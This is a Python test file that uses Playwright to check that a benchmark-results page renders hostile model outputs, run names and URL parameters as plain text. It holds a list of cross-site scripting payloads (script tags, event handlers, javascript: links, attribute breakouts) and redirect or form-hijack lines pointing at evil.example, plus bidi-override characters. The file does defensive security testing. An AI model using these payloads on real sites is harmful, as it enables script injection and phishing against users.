"""Would catch anything that a model or a stranger wrote becoming more than text on the page.

Everything is tried twice: with the page's own policy against foreign scripts, and with that policy switched off, so
that what is shown is safe by itself and the policy is a second wall.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from made_runs import add_execution, forge, lines_of, own_run, rename_task
from own_data import row
from playwright.sync_api import Locator, expect

from browser.pages import Watched, made_page

Look = Callable[..., Watched]
ACTIVE = (
    "<script>canary(1)</script>",
    "</script><script>canary(2)</script>",
    "<img src=x onerror=canary(3)>",
    "<svg onload=canary(4)><animate onbegin=canary(5) attributeName=x dur=1s></svg>",
    "<a href=javascript:canary(6)>javascript:canary(6)</a>",
    "\" onmouseover=\"canary(7)\" x=\"' onfocus='canary(8)' autofocus='",
    "<iframe srcdoc='<script>parent.canary(9)</script>'></iframe>",
    "<!-- <script> -->",
    "<title>stolen</title><base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<style>*{display:none!important}</style><link rel=stylesheet href=//evil.example/x.css>",
    "</textarea></select></dialog></template><form action=//evil.example><input name=children>",
    "{{ 7 * 7 }} ${canary(10)} `${canary(11)}` {n} \\u003cimg\\u003e &lt;b&gt; %3Cscript%3E",
    '\',canary(12),\' ",canary(13)," \\"); canary(14); (\\"',
)
UNSEEN = "\u2028\u2029 \u202egnp.exe\u202c \u2066\u200b\ufeff\u00ad \x1b[31m \x07"
HOSTILE = " ".join(ACTIVE) + f" {UNSEEN}"
ROW = "section.board[data-benchmark=made] tr[data-row]:not([data-label=plain])"
UNFOLD = "found => found.forEach((one) => { one.open = true; })"
LITERAL = [text for text in ACTIVE if "\\u" not in text]
MEGABYTE = HOSTILE + "x" * 1_000_000 + "\u202e" * 5000 + HOSTILE


OF_THE_TABLE = ("board", "sort", "order", "find", "language", "theme", "language-of", "category", "columns", "without")
OF_THE_VIEWER = ("run", "task", "sample", "attempt", "show", "having", "beside")


def hostile_runs(folder: Path) -> Path:
    """A run in which everything that has a text has this one."""
    data = [row("dates", 0, targets=[HOSTILE], metadata={HOSTILE: HOSTILE, "__proto__": HOSTILE, "constructor": "x"})]
    data[0]["input"] = {"context": HOSTILE, "question": HOSTILE}
    data += [row("dates", number) for number in range(1, 4)]
    answers: dict[str, Any] = {
        "dates/0": {
            "text": f"{HOSTILE}\ud800\x00",
            "thought": HOSTILE,
            "finish_reason": HOSTILE,
            "remarks": (HOSTILE,),
        },
        "dates/1": {"error": HOSTILE},
        "dates/2": MEGABYTE,
    }
    run = own_run(folder, data, answers)
    about = {"setting": HOSTILE, "notes": [HOSTILE], "tags": {HOSTILE: HOSTILE}, "partial": HOSTILE}
    header = {name: about[name] for name in ("setting", "notes", "tags")}
    forge(run, name=HOSTILE, **header, result={"model": HOSTILE, **about})
    told = {"verdict": "failed", "reason": HOSTILE, "output": HOSTILE, "tests": {HOSTILE: HOSTILE}}
    add_execution(run, sample_id="dates/0", extractor="official", **told)
    rename_task(run, "dates", HOSTILE)
    scores = run.path / "scores.jsonl"
    lines = lines_of(scores)
    lines[0] |= {"reason": HOSTILE, "raised": HOSTILE, "verdict": HOSTILE, "also": {HOSTILE: 0.5}, "value": 0.0}
    scores.write_text("".join(json.dumps(line) + "\n" for line in lines))
    own_run(folder, data, {"dates/0": HOSTILE}, name="plain")
    third = own_run(folder, data, {"dates/0": HOSTILE})
    forge(third, benchmark=HOSTILE, result={"benchmark": HOSTILE})
    return folder / "runs"


@pytest.fixture(scope="module")
def hostile_page(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    return made_page(folder / "page.html", hostile_runs(folder))


@pytest.fixture(params=["with the policy", "without the policy"])
def watched(request: pytest.FixtureRequest, look: Look, hostile_page: Path) -> Watched:
    return look(hostile_page, {"benchmark": "made"}, bypass_csp=request.param == "without the policy")


def opened(watched: Watched, sample: str) -> Locator:
    """One sample of the hostile run."""
    watched(f"{ROW} .drill").first.focus()
    watched.page.keyboard.press("Enter")
    watched("#viewer .list button", has_text=sample).click()
    expect(watched("#viewer article h3")).to_have_text(sample)
    return watched("#viewer article")


def part(article: Locator, title: str) -> Locator:
    """A part of what is shown of a sample."""
    return article.locator("section", has=article.page.get_by_role("heading", name=title, exact=True))


def literal(text: str) -> None:
    """The text stands there as it was written, and what cannot be seen in it is named."""
    for part in LITERAL:
        assert part in text, part
    assert "U+202E" in text
    assert "\u202e" not in text


def everything_done(watched: Watched) -> None:
    """Whatever a reader may do to a page."""
    watched("main details").evaluate_all(UNFOLD)
    watched("button.sort").evaluate_all("found => found.forEach((one) => one.click())")
    watched("main input[name=find]").fill("<img src=x onerror=canary(20)>")
    watched("main input[name=find]").fill("")
    watched("input[name=language][value=zh]").check(force=True)
    watched("input[name=language][value=en]").check(force=True)
    for figure in watched("figure.chart").all():
        if figure.is_visible():
            figure.scroll_into_view_if_needed()
            expect(figure.locator("svg").first).to_be_visible()
    watched.page.mouse.move(200, 300)


def test_names_on_the_page_are_text(watched: Watched) -> None:
    name = watched(f"{ROW} .label").inner_text()
    literal(name)
    everything_done(watched)
    watched.until("document.querySelectorAll('script').length === document.scripts.length")
    assert (
        watched("main :is(iframe, object, embed, base, img, animate, [onerror], [onload], [onmouseover])").count() == 0
    )
    assert watched("a[href^='javascript']").count() == 0
    assert watched("body").is_visible()


def test_whatever_a_sample_holds_is_text(watched: Watched) -> None:
    article = opened(watched, "dates/0")
    article.locator("details").evaluate_all(UNFOLD)
    shown = article.inner_text()
    literal(shown)
    for heading in ("Why", "The authors' own scorer raises", "Prompt", "References", "Answer", "Tests", "Output"):
        assert heading in shown
    answer = part(article, "Answer").locator("pre").inner_text()
    literal(answer)
    assert "U+D800" in answer
    assert "U+0000" in answer
    assert watched("#viewer :is(script, iframe, img, svg, base, meta, title, style, link, a)").count() == 0
    assert watched.page.evaluate("Object.keys({}).length === 0 && ({}).x === undefined")


def test_an_error_is_text(watched: Watched) -> None:
    article = opened(watched, "dates/1")
    literal(part(article, "Error").locator("pre").inner_text())


def test_a_megabyte_is_shown_cut_with_the_command_for_the_rest(watched: Watched) -> None:
    article = opened(watched, "dates/2")
    cut = article.locator(".cut").first
    expect(cut).to_contain_text("characters are left out here")
    expect(cut).to_contain_text("bench show")
    expect(cut).to_contain_text("--id 'dates/2'")
    shown = part(article, "Answer").inner_text()
    literal(shown)
    assert "U+202E ×5000" in shown
    assert len(shown) < 25_000
    watched.page.keyboard.press("j")
    expect(watched("#viewer article h3")).to_have_text("dates/3")


@pytest.mark.parametrize("name", [*OF_THE_TABLE, *OF_THE_VIEWER])
def test_an_address_that_a_stranger_sends_runs_nothing(look: Look, hostile_page: Path, name: str) -> None:
    run = next(item.name for item in hostile_page.with_suffix(".samples").iterdir() if item.is_dir())
    state = {"run": run, name: HOSTILE} if name in OF_THE_VIEWER else {name: HOSTILE}
    watched = look(hostile_page, state, bypass_csp=True)
    expect(watched("main")).to_be_attached()
    watched.until("document.readyState === 'complete' && !document.querySelector('[aria-busy]')")
    assert watched("main :is(iframe, img)").count() == 0
    if watched("#viewer").is_visible():
        watched.page.keyboard.press("Escape")
        expect(watched("#viewer")).to_be_hidden()
